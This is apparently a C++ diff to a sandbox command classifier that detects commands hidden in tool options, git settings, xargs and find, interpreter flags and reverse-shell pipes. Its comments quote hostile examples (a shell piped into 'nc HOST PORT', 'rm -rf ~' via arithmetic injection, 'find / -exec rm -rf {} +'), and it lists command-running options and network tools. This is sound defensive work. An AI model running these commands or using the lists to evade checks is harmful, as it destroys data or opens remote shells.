@@ -146,6 +146,42 @@ bool only_substitutions(const Word& w) {
   });
 }
 
+// The options of a program whose value is a command line it runs; kind 's' a shell command
+// line, 'g' a gdb command, 'e' an editor's command.
+std::vector<std::pair<std::string_view, char>> command_options(std::string_view name) {
+  if (name == "tar" || name == "bsdtar" || name == "gtar")
+    return {{"--to-command", 's'},           {"--checkpoint-action", 's'}, {"-I", 's'},
+            {"--use-compress-program", 's'}, {"--rsh-command", 's'},       {"-F", 's'},
+            {"--info-script", 's'},          {"--new-volume-script", 's'}};
+  if (name == "sort") return {{"--compress-program", 's'}};
+  if (name == "man") return {{"-P", 's'}, {"--pager", 's'}, {"-H", 's'}, {"--html", 's'}};
+  if (name == "zip") return {{"-TT", 's'}, {"--unzip-command", 's'}};
+  if (name == "rsync") return {{"-e", 's'}, {"--rsh", 's'}};
+  if (name == "gdb")
+    return {{"-ex", 'g'},
+            {"--ex", 'g'},
+            {"-iex", 'g'},
+            {"--eval-command", 'g'},
+            {"--init-eval-command", 'g'}};
+  if (name == "vim" || name == "vi" || name == "nvim" || name == "view" || name == "ex" ||
+      name == "emacs" || name == "less" || name == "more")
+    return {{"-c", 'e'}, {"--cmd", 'e'}, {"--eval", 'e'}, {"-eval", 'e'}};
+  return {};
+}
+
+// A git setting whose value is a command git runs later.
+bool git_command_key(const std::string& key, const std::string& value) {
+  return key == "core.pager" || key == "core.editor" || key == "core.sshcommand" ||
+         key == "core.fsmonitor" || key == "sequence.editor" || key == "diff.external" ||
+         key == "gpg.program" || key == "gpg.ssh.program" || key == "gpg.x509.program" ||
+         key == "core.askpass" || key == "web.browser" || key == "uploadpack.packobjectshook" ||
+         key.starts_with("pager.") || key.ends_with(".textconv") || key.ends_with(".cmd") ||
+         key.ends_with(".clean") || key.ends_with(".smudge") || key.ends_with(".process") ||
+         key.ends_with(".command") || key.ends_with(".driver") || key.ends_with(".uploadpack") ||
+         key.ends_with(".receivepack") || key.ends_with(".proxy") ||
+         ((key.starts_with("alias.") || key == "credential.helper") && value.starts_with("!"));
+}
+
 // /dev/tcp/HOST/PORT and /dev/udp/...: HOST, or "" when the word is not one.
 std::string dev_tcp_host(std::string_view t) {
   for (std::string_view dev : {"/dev/tcp/", "/dev/udp/"}) {
@@ -337,26 +373,9 @@ class Classifier {
   // it is evaluated as arithmetic too (`x='a[$(rm -rf ~)]'; echo $((x))`).
   void arithmetic_verdict(const std::string& text, int depth, Verdict& v, int level = 0) {
     if (level > 8) return;
-    for (std::size_t i = 0; i < text.size(); ++i) {
-      std::size_t begin = std::string::npos, end = std::string::npos;
-      if (text[i] == '`') {
-        begin = i + 1;
-        end = text.find('`', begin);
-      } else if (text.compare(i, 2, "$(") == 0) {
-        begin = i + 2;
-        int open = 1;
-        for (std::size_t k = begin; k < text.size(); ++k) {
-          if (text[k] == '(') ++open;
-          if (text[k] == ')' && --open == 0) {
-            end = k;
-            break;
-          }
-        }
-      }
-      if (begin == std::string::npos || end == std::string::npos) continue;
-      Verdict inner = script_verdict(text.substr(begin, end - begin), depth + 1);
-      raise(v, inner.decision, inner.rule, inner.reason);
-      i = end;
+    for (std::string_view inner : classifier::command_substitutions(text)) {
+      Verdict found = script_verdict(std::string(inner), depth + 1);
+      raise(v, found.decision, found.rule, found.reason);
     }
     // Identifiers: their values are arithmetic of their own.
     for (std::size_t i = 0; i < text.size();) {
@@ -394,6 +413,12 @@ class Classifier {
       effect(
           v, Effect::contained, "background",
           "runs in the background (&): the sandbox's process namespace ends it with the command");
+    }
+    for (const auto& s : c.sets) {
+      if (s.name == "BASH_CMDS" || s.name == "BASH_ALIASES") {
+        effect(v, Effect::opaque, "rebinds-command",
+               s.name + " makes a command name run another program");
+      }
     }
     if (c.words.empty()) {
       for (const auto& s : c.sets) {
@@ -460,6 +485,126 @@ class Classifier {
         {c.source.empty() ? join_words(c.words) : c.source, v.decision, v.rule, v.reason});
   }
 
+  // echo -e's and printf's backslash escapes (\n, \t, \\, \x2f, \0NNN, \NNN); nullopt for
+  // one this does not model (\c, \u), so the text is not claimed known.
+  static std::optional<std::string> backslash_escapes(std::string_view in, bool printf = false) {
+    std::string out;
+    for (std::size_t i = 0; i < in.size(); ++i) {
+      if (in[i] != '\\' || i + 1 >= in.size()) {
+        out += in[i];
+        continue;
+      }
+      const char e = in[++i];
+      const auto octal = [&](std::size_t max) {
+        int value = 0;
+        std::size_t n = 0;
+        while (n < max && i + 1 < in.size() && in[i + 1] >= '0' && in[i + 1] <= '7') {
+          value = value * 8 + (in[++i] - '0');
+          ++n;
+        }
+        out += static_cast<char>(value);
+      };
+      switch (e) {
+        case 'n':
+          out += '\n';
+          break;
+        case 't':
+          out += '\t';
+          break;
+        case 'r':
+          out += '\r';
+          break;
+        case 'a':
+          out += '\a';
+          break;
+        case 'b':
+          out += '\b';
+          break;
+        case 'f':
+          out += '\f';
+          break;
+        case 'v':
+          out += '\v';
+          break;
+        case 'e':
+        case 'E':
+          out += '\x1b';
+          break;
+        case '\\':
+          out += '\\';
+          break;
+        case '"':
+        case '\'':
+          out += e;
+          break;
+        case '0':
+          octal(3);
+          break;
+        case 'x': {
+          int value = 0, n = 0;
+          while (n < 2 && i + 1 < in.size() &&
+                 std::isxdigit(static_cast<unsigned char>(in[i + 1]))) {
+            const char h = in[++i];
+            value = value * 16 +
+                    (std::isdigit(static_cast<unsigned char>(h)) ? h - '0' : (h | 0x20) - 'a' + 10);
+            ++n;
+          }
+          if (n == 0) return std::nullopt;
+          out += static_cast<char>(value);
+          break;
+        }
+        default:
+          if (printf && e >= '1' && e <= '7') {
+            --i;
+            octal(3);
+            break;
+          }
+          if (e == 'c' || e == 'u' || e == 'U') return std::nullopt;
+          out += '\\';
+          out += e;
+      }
+    }
+    return out;
+  }
+
+  // printf FORMAT ARGS: %s %b %d %i %c %% with the format reused while arguments remain.
+  static std::optional<std::string> printf_output(const std::string& format,
+                                                  const std::vector<std::string>& args) {
+    std::string out;
+    std::size_t next = 0;
+    for (int round = 0; round < 64; ++round) {
+      bool consumed = false;
+      for (std::size_t i = 0; i < format.size(); ++i) {
+        if (format[i] != '%') {
+          out += format[i];
+          continue;
+        }
+        if (i + 1 >= format.size()) return std::nullopt;
+        const char conv = format[++i];
+        if (conv == '%') {
+          out += '%';
+          continue;
+        }
+        const std::string arg = next < args.size() ? args[next] : "";
+        consumed |= next < args.size();
+        ++next;
+        if (conv == 's' || conv == 'd' || conv == 'i' || conv == 'u') {
+          out += arg;
+        } else if (conv == 'b') {
+          auto expanded = backslash_escapes(arg);
+          if (!expanded) return std::nullopt;
+          out += *expanded;
+        } else if (conv == 'c') {
+          out += arg.substr(0, 1);
+        } else {
+          return std::nullopt;  // widths, precisions, %q, %x: not modelled
+        }
+      }
+      if (!consumed || next >= args.size()) break;
+    }
+    return backslash_escapes(out, true);
+  }
+
   // What `echo`/`printf` print, when it is written out in full.
   static std::optional<std::string> printed(const SimpleCommand& c) {
     if (c.words.empty() || c.words[0].dynamic) return std::nullopt;
@@ -467,16 +612,24 @@ class Classifier {
     if (p != "echo" && p != "printf") return std::nullopt;
     std::string out;
     std::size_t i = 1;
-    if (p == "echo") {
-      while (i < c.words.size() && c.words[i].text.size() > 1 && c.words[i].text[0] == '-' &&
-             c.words[i].text.find_first_not_of("neE", 1) == std::string::npos)
-        ++i;
+    for (std::size_t k = 1; k < c.words.size(); ++k) {
+      if (c.words[k].dynamic) return std::nullopt;
     }
-    for (; i < c.words.size(); ++i) {
-      if (c.words[i].dynamic) return std::nullopt;
-      out += (out.empty() ? "" : " ") + c.words[i].text;
+    if (p == "printf") {
+      if (c.words.size() < 2 || c.words[1].text == "-v") return std::nullopt;
+      std::vector<std::string> args;
+      for (std::size_t k = 2; k < c.words.size(); ++k) args.push_back(c.words[k].text);
+      return printf_output(c.words[1].text, args);
     }
-    return out;
+    bool escapes = false;
+    while (i < c.words.size() && c.words[i].text.size() > 1 && c.words[i].text[0] == '-' &&
+           c.words[i].text.find_first_not_of("neE", 1) == std::string::npos) {
+      escapes |= c.words[i].text.find('e') != std::string::npos;
+      ++i;
+    }
+    for (; i < c.words.size(); ++i) out += (out.empty() ? "" : " ") + c.words[i].text;
+    if (!escapes) return out;
+    return backslash_escapes(out);
   }
 
   // What the script now knows: where it is (cd), which files it wrote and with what.
@@ -494,7 +647,8 @@ class Classifier {
     };
     classifier::WrittenFile content;
     if (auto p = printed(c)) {
-      content.text = *p + "\n";
+      const bool newline = basename_of(c.words[0].text) == "echo";
+      content.text = *p + (newline ? "\n" : "");
     } else if (name == "cat" && c.words.size() == 1) {
       content.text = text_of_stdin();
     }
@@ -511,6 +665,12 @@ class Classifier {
       if (w[i].dynamic) continue;
       const std::string& t = w[i].text;
       if (name == "tee" && !t.starts_with("-")) state_->wrote(t, {text_of_stdin(), false});
+      for (std::string_view glued : {"--output=", "--output-document=", "-o", "-O"}) {
+        const bool ours = (name == "curl" && (glued == "--output=" || glued == "-o")) ||
+                          (name == "wget" && (glued == "--output-document=" || glued == "-O"));
+        if (ours && t.size() > glued.size() && t.starts_with(glued))
+          state_->wrote(t.substr(glued.size()), {std::nullopt, true});
+      }
       const bool out_flag = ((name == "curl" && (t == "-o" || t == "--output")) ||
                              (name == "wget" && (t == "-O" || t == "--output-document")));
       if (out_flag && i + 1 < w.size() && !w[i + 1].dynamic)
@@ -602,6 +762,9 @@ class Classifier {
           raise(v, inner.decision, inner.rule, inner.reason);
           break;
         }
+        case Finding::Kind::remote:
+          effect(v, Effect::remote, "upload", who + " code: " + f.text);
+          break;
         case Finding::Kind::writes:
           if (const char* why = classifier::forbidden_redirect_target(f.text, &state_->paths()))
             effect(v, Effect::hostile, "system-write", who + ": " + why + " (" + f.text + ")");
@@ -736,9 +899,37 @@ class Classifier {
       if (const auto* f = state_->written(w0.text)) script_file_verdict(*f, "shebang", depth, v);
     }
 
+    code_runner_verdict(c, start, name, depth, v);
+    if (name == "nc" || name == "ncat" || name == "netcat" || name == "socat" || name == "telnet" ||
+        name == "openssl" || name == "nc.traditional" || name == "nc.openbsd") {
+      // `sh -i < f 2>&1 | nc HOST PORT > f`: a shell's output into a connection.
+      for (const auto& up : c.upstream) {
+        if (is_shell(up))
+          effect(v, Effect::hostile, "reverse-shell",
+                 up + " piped into " + name + ": hands a shell to a network connection");
+      }
+    }
+    if (name == "env") {  // env NAME=VALUE CMD: as a prefix assignment
+      for (std::size_t i = start + 1; i < c.words.size(); ++i) {
+        const std::string& t = c.words[i].text;
+        const auto eq = t.find('=');
+        if (t.starts_with("-") || eq == std::string::npos || eq == 0) continue;
+        if (t.substr(0, eq) == "PATH") {
+          effect(v, Effect::contained, "path-change", "runs with a changed PATH: " + t);
+        } else {
+          variable_effect(t.substr(0, eq), {t.substr(eq + 1), c.words[i].dynamic, false, {}}, depth,
+                          v);
+        }
+      }
+    }
     // Wrappers: the command they run is classified as if given directly.
     if (auto next = wrapped_command(c, start, name, v, depth)) {
       for (std::size_t at : *next) {
+        if (name == "xargs" || name == "parallel") {
+          Verdict inner = argv_verdict(with_stdin_arguments(c, at), 0, depth + 1);
+          raise(v, inner.decision, inner.rule, inner.reason);
+          continue;
+        }
         Verdict inner = argv_verdict(c, at, depth + 1);
         raise(v, inner.decision, inner.rule, inner.reason);
       }
@@ -750,12 +941,20 @@ class Classifier {
 
     if (name == "eval") eval_verdict(c, start, depth, v);
     if ((name == "source" || name == ".") && start + 1 < c.words.size()) {
-      if (const auto* f = state_->written(c.words[start + 1].text))
-        script_file_verdict(*f, "", depth, v);
+      const std::string& f = c.words[start + 1].text;
+      if (const auto* file = state_->written(f)) script_file_verdict(*file, "", depth, v);
+      if (f == "/dev/stdin" || f == "/dev/fd/0" || f == "/proc/self/fd/0") {
+        piped_program_verdict(c, name, v);
+        for (const auto& text : c.stdin_texts) {
+          Verdict inner = inner_script(text, depth, "text fed to its stdin");
+          raise(v, inner.decision, inner.rule, inner.reason);
+        }
+        if (c.stdin_texts.empty())
+          effect(v, Effect::opaque, "script-from-pipe", name + " runs its stdin: not analysable");
+      }
     }
     if (is_shell(name)) shell_verdict(c, start, depth, v);
     if (is_interpreter(name)) interpreter_verdict(c, start, name, depth, v);
-    code_runner_verdict(c, start, name, depth, v);
     if (is_interpreter(name) || name == "source" || name == "." || name == "eval") {
       for (std::size_t i = start + 1; i < c.words.size(); ++i) {
         if (fetches_code(c.words[i])) {
@@ -807,6 +1006,75 @@ class Classifier {
     return v;
   }
 
+  // xargs/parallel CMD: the words of stdin become CMD's last arguments (or replace -I's
+  // placeholder). Known when the command line printed them (`echo / | xargs rm -rf`); otherwise
+  // a word known only at run time, which names what fed it (`$(curl)` when a download did).
+  SimpleCommand with_stdin_arguments(const SimpleCommand& c, std::size_t at) const {
+    SimpleCommand out = c;
+    out.words.assign(c.words.begin() + static_cast<std::ptrdiff_t>(at), c.words.end());
+    std::string placeholder;
+    for (std::size_t i = 1; i < at; ++i) {
+      const std::string& t = c.words[i].text;
+      if ((t == "-I" || t == "--replace") && i + 1 < at) placeholder = c.words[i + 1].text;
+      if (t.starts_with("-I") && t.size() > 2) placeholder = t.substr(2);
+      if (t == "-i" || t == "--replace") placeholder = placeholder.empty() ? "{}" : placeholder;
+    }
+    std::vector<Word> input;
+    if (c.stdin_texts.size() == 1 && !c.stdin_texts[0].dynamic) {
+      const std::string& text = c.stdin_texts[0].text;
+      std::size_t i = 0;
+      while (i < text.size()) {
+        const auto b = text.find_first_not_of(" \t\n", i);
+        if (b == std::string::npos) break;
+        auto e = text.find_first_of(placeholder.empty() ? " \t\n" : "\n", b);
+        if (e == std::string::npos) e = text.size();
+        input.push_back(literal_word(text.substr(b, e - b)));
+        i = e;
+      }
+    } else {
+      std::string from = "xargs-input";
+      for (const auto& up : c.upstream) {
+        if (is_downloader(up)) from = up;
+      }
+      input.push_back({"$(" + from + ")", true, false, {}});
+    }
+    if (input.empty()) return out;
+    if (!placeholder.empty()) {
+      std::vector<Word> replaced;
+      for (const auto& word : out.words) {
+        if (word.text == placeholder && !word.dynamic) {
+          replaced.insert(replaced.end(), input.begin(), input.end());
+        } else if (!word.dynamic && word.text.find(placeholder) != std::string::npos) {
+          Word joined = word;
+          joined.text.replace(joined.text.find(placeholder), placeholder.size(), input[0].text);
+          joined.dynamic = input[0].dynamic;
+          replaced.push_back(joined);
+        } else {
+          replaced.push_back(word);
+        }
+      }
+      out.words = std::move(replaced);
+    } else {
+      out.words.insert(out.words.end(), input.begin(), input.end());
+    }
+    return out;
+  }
+
+  // `git -c alias.p=push p`, `git config alias.p push`: the alias is that git command.
+  Verdict git_alias_verdict(const SimpleCommand& c, const std::string& value, int depth) {
+    SimpleCommand as_git = c;
+    as_git.words = {literal_word("git")};
+    for (std::size_t k = 0; k < value.size();) {
+      const auto b = value.find_first_not_of(' ', k);
+      if (b == std::string::npos) break;
+      auto e = value.find(' ', b);
+      if (e == std::string::npos) e = value.size();
+      as_git.words.push_back(literal_word(value.substr(b, e - b)));
+      k = e;
+    }
+    return argv_verdict(as_git, 0, depth + 1);
+  }
+
   void eval_verdict(const SimpleCommand& c, std::size_t start, int depth, Verdict& v) {
     std::string joined;
     bool dynamic = false, substitutions = true;
@@ -832,18 +1100,56 @@ class Classifier {
                            int depth, Verdict& v) {
     const auto& w = c.words;
     const std::string lang = name.starts_with("python") ? "python" : name;
+    // The letter that gives program text in a cluster of short options (-c, -Ic, -cCODE for
+    // python; -e, -ne, -pe, -le for perl, ruby and node; -r for php).
+    const char letter = lang == "python" || name == "pwsh" ? 'c' : name == "php" ? 'r' : 'e';
+    const auto program_text = [&](const Word& code) {
+      if (code.dynamic) {
+        effect(v, Effect::opaque, "inline-code",
+               name + " runs program text known only at run time: " + code.text);
+      } else {
+        apply(read_code(lang, code.text), name, depth, v);
+      }
+    };
+    bool had_code = false;
     for (std::size_t i = start + 1; i < w.size(); ++i) {
       const std::string& t = w[i].text;
-      if (inline_code_option(name, t) && i + 1 < w.size()) {
-        const Word& code = w[i + 1];
-        if (code.dynamic) {
-          effect(v, Effect::opaque, "inline-code",
-                 name + " runs program text known only at run time: " + code.text);
-        } else {
-          apply(read_code(lang, code.text), name, depth, v);
+      if (t == "--") break;
+      for (std::string_view eq : {"--eval=", "--print=", "--command="}) {
+        if (t.starts_with(eq)) {
+          program_text({t.substr(eq.size()), w[i].dynamic, false, {}});
+          had_code = true;
         }
-        return;
       }
+      if (inline_code_option(name, t) && i + 1 < w.size()) {
+        program_text(w[i + 1]);
+        had_code = true;
+        if (lang == "python") return;  // the rest are its arguments
+        ++i;
+        continue;
+      }
+      // Not options whose value is glued on (-Mmodule, -Wignore, -Idir, -i.bak, -Fpattern).
+      const std::string_view glued_values = lang == "python" ? "WX"
+                                            : lang == "perl" ? "MmIiFxC0"
+                                            : lang == "ruby" ? "IrCFx"
+                                                             : "r";
+      const bool cluster = t.size() > 2 && t[0] == '-' && t[1] != '-' && !w[i].dynamic &&
+                           glued_values.find(t[1]) == std::string_view::npos;
+      const auto at = cluster ? t.find(letter, 1) : std::string::npos;
+      const bool node_print =
+          (lang == "node" || lang == "nodejs") && cluster && t.find('p') != std::string::npos;
+      if (at != std::string::npos || node_print) {
+        const auto pos = at != std::string::npos ? at : t.find('p');
+        if (pos + 1 < t.size()) {
+          program_text({t.substr(pos + 1), false, false, {}});  // -cCODE
+        } else if (i + 1 < w.size()) {
+          program_text(w[++i]);
+        }
+        had_code = true;
+        if (lang == "python") return;
+        continue;
+      }
+      if (had_code) continue;
       if (t == "-m" && lang == "python") {
         // `python -m pip install x` is `pip install x`; -m json.tool reads data on stdin.
         if (i + 1 < w.size() && !w[i + 1].dynamic) {
@@ -867,6 +1173,7 @@ class Classifier {
       if (const auto* f = state_->written(t)) script_file_verdict(*f, lang, depth, v);
       return;
     }
+    if (had_code) return;
     // No program given: stdin is the program.
     piped_program_verdict(c, name, v);
     for (const auto& text : c.stdin_texts) {
@@ -948,6 +1255,22 @@ class Classifier {
         }
       }
     } else if (name == "make" || name == "gmake") {
+      bool named_file = false;
+      for (std::size_t i = start + 1; i < w.size(); ++i) {
+        named_file |= w[i].text == "-f" || w[i].text.starts_with("--file") ||
+                      w[i].text.starts_with("--makefile") || w[i].text.starts_with("-f");
+      }
+      for (const char* file : {"GNUmakefile", "makefile", "Makefile"}) {
+        const auto* f = named_file ? nullptr : state_->written(file);
+        if (f == nullptr) continue;
+        if (f->text) {
+          apply(classifier::makefile_text(*f->text), name, depth, v);
+        } else {
+          effect(
+              v, Effect::opaque, "script-file",
+              "make runs a makefile this command line wrote, whose text is known only at run time");
+        }
+      }
       for (std::size_t i = start + 1; i < w.size(); ++i) {
         const std::string& t = w[i].text;
         if ((t == "--eval" || t == "-E") && i + 1 < w.size()) {
@@ -975,22 +1298,23 @@ class Classifier {
       }
     } else if (name == "git") {
       for (std::size_t i = start + 1; i + 1 < w.size(); ++i) {
-        if (w[i].text != "-c") continue;
-        const std::string& kv = w[i + 1].text;
+        const bool glued = w[i].text.starts_with("-c") && w[i].text.size() > 2;
+        if (w[i].text != "-c" && !glued) continue;
+        const std::string& kv = glued ? w[i].text.substr(2) : w[i + 1].text;
         std::string key = kv.substr(0, kv.find('='));
         for (auto& ch : key) ch = static_cast<char>(std::tolower(static_cast<unsigned char>(ch)));
         std::string value = kv.find('=') == std::string::npos ? "" : kv.substr(kv.find('=') + 1);
-        const bool command =
-            key == "core.pager" || key == "core.editor" || key == "core.sshcommand" ||
-            key == "core.fsmonitor" || key == "sequence.editor" || key == "diff.external" ||
-            key == "gpg.program" || key == "core.askpass" || key == "web.browser" ||
-            key.starts_with("pager.") || key.ends_with(".textconv") || key.ends_with(".cmd") ||
-            key.ends_with(".clean") || key.ends_with(".smudge") || key.ends_with(".process") ||
-            key.ends_with(".command") ||
-            ((key.starts_with("alias.") || key == "credential.helper") && value.starts_with("!"));
-        if (!command) continue;
+        if (key.starts_with("alias.") && !value.starts_with("!")) {
+          // an alias of another git subcommand: `git -c alias.p=push p` pushes
+          Verdict inner = git_alias_verdict(c, value, depth);
+          raise(v, inner.decision, inner.rule, inner.reason);
+          continue;
+        }
+        if (!git_command_key(key, value)) continue;
+
         if (value.starts_with("!")) value.erase(0, 1);
-        Verdict inner = inner_script({value, w[i + 1].dynamic, false, {}}, depth, "a git setting");
+        Verdict inner =
+            inner_script({value, w[glued ? i : i + 1].dynamic, false, {}}, depth, "a git setting");
         raise(v, inner.decision, inner.rule, inner.reason);
       }
       for (std::size_t i = start + 1; i < w.size(); ++i) {
@@ -1003,7 +1327,36 @@ class Classifier {
             raise(v, inner.decision, inner.rule, inner.reason);
           }
         }
-        if ((t == "-O" || t == "-x" || t == "--extcmd" || t == "--upload-pack" ||
+        if (t == "foreach" && i > start + 1 && w[i - 1].text == "submodule") {
+          std::string joined;
+          bool dynamic = false;
+          for (std::size_t k = i + 1; k < w.size(); ++k) {
+            if (w[k].text.starts_with("-") && joined.empty()) continue;  // --recursive, -q
+            joined += (joined.empty() ? "" : " ") + w[k].text;
+            dynamic |= w[k].dynamic;
+          }
+          Verdict inner =
+              inner_script({joined, dynamic, false, {}}, depth, "git submodule foreach");
+          raise(v, inner.decision, inner.rule, inner.reason);
+        }
+        if (t.starts_with("ext::") || t.find("protocol.ext.allow") != std::string::npos) {
+          effect(v, Effect::opaque, "runs-a-command", "git's ext:: transport runs a command: " + t);
+        }
+        if (t == "config" && i + 2 < w.size() && !w[i + 1].text.starts_with("-")) {
+          // git config core.pager 'CMD': what a later git command will run.
+          std::string key = w[i + 1].text;
+          for (auto& ch : key) ch = static_cast<char>(std::tolower(static_cast<unsigned char>(ch)));
+          if (git_command_key(key, w[i + 2].text) || key.starts_with("alias.")) {
+            std::string value = w[i + 2].text;
+            if (value.starts_with("!")) value.erase(0, 1);
+            Verdict inner =
+                key.starts_with("alias.") && !w[i + 2].text.starts_with("!")
+                    ? git_alias_verdict(c, value, depth)
+                    : inner_script({value, w[i + 2].dynamic, false, {}}, depth, "a git setting");
+            raise(v, inner.decision, inner.rule, inner.reason);
+          }
+        }
+        if ((t == "-O" || t == "-x" || t == "--exec" || t == "--extcmd" || t == "--upload-pack" ||
              t == "--receive-pack") &&
             i + 1 < w.size()) {
           Verdict inner = inner_script(w[i + 1], depth, "a command given to git");
@@ -1011,6 +1364,61 @@ class Classifier {
         }
         if (t == "run" && i > start + 1 && w[i - 1].text == "bisect") {
           Verdict inner = argv_verdict(c, i + 1, depth + 1);
+          raise(v, inner.decision, inner.rule, inner.reason);
+        }
+      }
+    } else if (auto options = command_options(name); !options.empty()) {
+      // Options whose value is a command line the program runs (tar --to-command, sort
+      // --compress-program, man -P, zip -TT, rsync -e, gdb -ex 'shell ...', vim -c '!...').
+      for (std::size_t i = start + 1; i < w.size(); ++i) {
+        const std::string& t = w[i].text;
+        for (const auto& [option, kind] : options) {
+          std::optional<Word> value;
+          if (t == option && i + 1 < w.size()) value = w[i + 1];
+          const std::string glued = std::string(option) + (option.starts_with("--") ? "=" : "");
+          if (t.size() > glued.size() && t.starts_with(glued))
+            value = Word{t.substr(glued.size()), w[i].dynamic, false, {}};
+          if (!value) continue;
+          std::string text = value->text;
+          if (text.starts_with("exec=")) text.erase(0, 5);  // --checkpoint-action=exec=CMD
+          // A filter, a compressor, a pager: it reads the data on stdin (a shell there runs it).
+          if (option == "--compress-program" || option == "--to-command" || option == "-I" ||
+              option == "--use-compress-program" || option == "-P" || option == "--pager")
+            text = "cat | " + text;
+          if (kind != 's') {
+            // gdb: `shell CMD` / `!CMD`; an editor: `!CMD`; other code they run is opaque.
+            if (kind == 'g' && text.starts_with("shell ")) {
+              text.erase(0, 6);
+            } else if (text.find('!') != std::string::npos) {
+              text.erase(0, text.find('!') + 1);
+            } else {
+              for (std::string_view code : {"python", "source", "pipe", "system", "lua", "shell",
+                                            "call", "process", "py3", "perl", "ruby"}) {
+                if (text.find(code) != std::string::npos) {
+                  effect(v, Effect::opaque, "inline-code",
+                         name + " runs code given to it: " + text);
+                  break;
+                }
+              }
+              continue;
+            }
+          }
+          Verdict inner = inner_script({text, value->dynamic, false, {}}, depth,
+                                       "a command given as an option");
+          raise(v, inner.decision, inner.rule, inner.reason);
+        }
+        if (t.starts_with("+") && t.find('!') != std::string::npos) {
+          Verdict inner = inner_script({t.substr(t.find('!') + 1), w[i].dynamic, false, {}}, depth,
+                                       "a command given at start-up");
+          raise(v, inner.decision, inner.rule, inner.reason);
+        }
+      }
+    } else if (name == "sqlite3") {
+      for (std::size_t i = start + 1; i < w.size(); ++i) {
+        const std::string& t = w[i].text;
+        if (t.starts_with(".shell ") || t.starts_with(".system ")) {
+          Verdict inner = inner_script({t.substr(t.find(' ') + 1), w[i].dynamic, false, {}}, depth,
+                                       "sqlite3 .shell");
           raise(v, inner.decision, inner.rule, inner.reason);
         }
       }
@@ -1062,7 +1470,11 @@ class Classifier {
         break;
       }
       if (t.size() < 2 || (t[0] != '-' && t[0] != '+')) break;
-      if (t == "--rcfile" || t == "--init-file") {  // their value is a file, not the script
+      if (t == "--rcfile" || t == "--init-file") {  // a start-up file: it runs too
+        if (i + 1 < c.words.size()) {
+          if (const auto* f = state_->written(c.words[i + 1].text))
+            script_file_verdict(*f, "", depth, v);
+        }
         ++i;
         continue;
       }
@@ -1088,6 +1500,15 @@ class Classifier {
       if (i >= c.words.size()) return;  // `sh -c` alone fails
       Verdict inner = inner_script(c.words[i], depth, "a -c script");
       raise(v, inner.decision, inner.rule, inner.reason);
+      // `curl URL | bash -c 'source /dev/stdin'`: the -c script runs the shell's stdin.
+      const std::string& t = c.words[i].text;
+      if (c.piped_in &&
+          (t.find("/dev/stdin") != std::string::npos || t.find("/dev/fd/0") != std::string::npos ||
+           t.find("$(cat)") != std::string::npos || t.find("`cat`") != std::string::npos)) {
+        piped_program_verdict(c, name, v);
+        effect(v, Effect::opaque, "script-from-pipe",
+               name + " -c runs what an earlier stage of the pipeline prints: not analysable");
+      }
       return;
     }
     if (i < c.words.size()) {
@@ -1105,6 +1526,8 @@ class Classifier {
       if (r.op == "<" && r.target.dynamic) {  // sh < <(curl URL)
         Verdict inner = inner_script(r.target, depth, "its stdin, made by a command");
         raise(v, inner.decision, inner.rule, inner.reason);
+      } else if (r.op == "<") {  // sh < x.sh: a file this command line may have written
+        if (const auto* f = state_->written(r.target.text)) script_file_verdict(*f, "", depth, v);
       }
     }
     // No script argument: the shell runs its stdin.
@@ -1127,20 +1550,41 @@ class Classifier {
                                                           int depth) {
     const auto& w = c.words;
     if (name == "find" || name == "fd" || name == "fdfind") {
-      // -exec / -execdir / -ok CMD ... ; (find), -x / -X / --exec CMD (fd): per file.
+      // -exec / -execdir / -ok CMD ... ; (find), -x / -X / --exec CMD (fd): per file. `{}` is
+      // each file found: at least each start point itself (`find / -exec rm -rf {} +`).
+      std::vector<Word> starts;
+      if (name == "find") {
+        for (std::size_t i = start + 1; i < w.size(); ++i) {
+          const std::string& t = w[i].text;
+          if (t == "-H" || t == "-L" || t == "-P" || t == "--" || t.starts_with("-O")) continue;
+          if (t == "-D") {
+            ++i;
+            continue;
+          }
+          if (t.starts_with("-") || t == "(" || t == "!") break;
+          starts.push_back(w[i]);
+        }
+      }
+      if (starts.empty()) starts.push_back(literal_word("."));
       for (std::size_t i = start + 1; i < w.size(); ++i) {
         const std::string& t = w[i].text;
         if (t == "-exec" || t == "-execdir" || t == "-ok" || t == "-okdir" || t == "-x" ||
             t == "-X" || t == "--exec" || t == "--exec-batch") {
-          SimpleCommand sub = c;
-          sub.words.clear();
-          for (std::size_t k = i + 1; k < w.size() && w[k].text != ";" && w[k].text != "+"; ++k)
-            sub.words.push_back(w[k]);
-          Verdict inner = argv_verdict(sub, 0, depth + 1);
-          raise(v, inner.decision, inner.rule, inner.reason);
+          for (const Word& found : starts) {
+            SimpleCommand sub = c;
+            sub.words.clear();
+            for (std::size_t k = i + 1; k < w.size() && w[k].text != ";" && w[k].text != "+"; ++k) {
+              sub.words.push_back(w[k].text == "{}" && !w[k].dynamic ? found : w[k]);
+            }
+            Verdict inner = argv_verdict(sub, 0, depth + 1);
+            raise(v, inner.decision, inner.rule, inner.reason);
+          }
         }
       }
       return std::nullopt;  // find's own rules still apply
+    }
+    if (name == "coproc") {  // coproc CMD: runs CMD in the background
+      return std::vector<std::size_t>{start + 1};
     }
     if (name == "cmake" && start + 2 < w.size() && w[start + 1].text == "-E") {
       // cmake -E env [--unset=X] [NAME=VALUE]... CMD, -E chdir DIR CMD, -E time CMD: wrappers.
